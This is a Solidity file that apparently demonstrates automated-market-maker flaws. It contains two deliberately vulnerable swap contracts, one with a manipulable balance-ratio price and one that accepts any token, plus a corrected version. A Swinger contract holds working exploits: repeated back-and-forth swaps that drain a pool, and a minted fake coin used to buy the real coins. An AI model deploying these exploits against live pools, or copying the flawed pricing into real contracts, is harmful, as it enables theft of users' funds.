// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

import {Coin} from "./Coin.sol";

/// @notice VULNERABLE (price manipulation): the price is the ratio of its balances before the trade.
contract BalanceShop {
    mapping(Coin => bool) public listed;

    constructor(Coin one, Coin two) {
        (listed[one], listed[two]) = (true, true);
    }

    function swap(Coin paid, Coin got, uint256 amount) external virtual {
        require(listed[paid] && listed[got], "not listed");
        uint256 out = quote(paid, got, amount);
        paid.transferFrom(msg.sender, address(this), amount);
        got.transfer(msg.sender, out);
    }

    function quote(Coin paid, Coin got, uint256 amount) public view virtual returns (uint256) {
        return (amount * got.balanceOf(address(this))) / paid.balanceOf(address(this));
    }
}

/// @notice The same, corrected: the product of its balances does not fall.
contract ProductShop is BalanceShop {
    constructor(Coin one, Coin two) BalanceShop(one, two) {}

    function quote(Coin paid, Coin got, uint256 amount) public view override returns (uint256) {
        return (amount * got.balanceOf(address(this))) / (paid.balanceOf(address(this)) + amount);
    }
}

/// @notice VULNERABLE (value extraction): it takes any coin for another.
contract OpenShop is BalanceShop {
    constructor(Coin one, Coin two) BalanceShop(one, two) {}

    function swap(Coin paid, Coin got, uint256 amount) external override {
        uint256 out = quote(paid, got, amount);
        paid.transferFrom(msg.sender, address(this), amount);
        got.transfer(msg.sender, out);
    }
}

/// @notice Trades all it has back and forth.
contract Swinger {
    function run(BalanceShop shop, Coin one, Coin two, uint256 times) external {
        (Coin paid, Coin got) = (one, two);
        for (uint256 i = 0; i < times; ++i) {
            uint256 amount = paid.balanceOf(address(this));
            uint256 most = paid.balanceOf(address(shop));
            if (amount > most) amount = most;
            paid.approve(address(shop), amount);
            shop.swap(paid, got, amount);
            (paid, got) = (got, paid);
        }
    }

    /// @dev Buys both with a coin made for it.
    function forge(BalanceShop shop, Coin one, Coin two) external {
        Coin fake = new Coin();
        fake.make(address(this), 4);
        fake.make(address(shop), 1);
        fake.approve(address(shop), 3);
        shop.swap(fake, one, 1);
        shop.swap(fake, two, 2);
    }
}
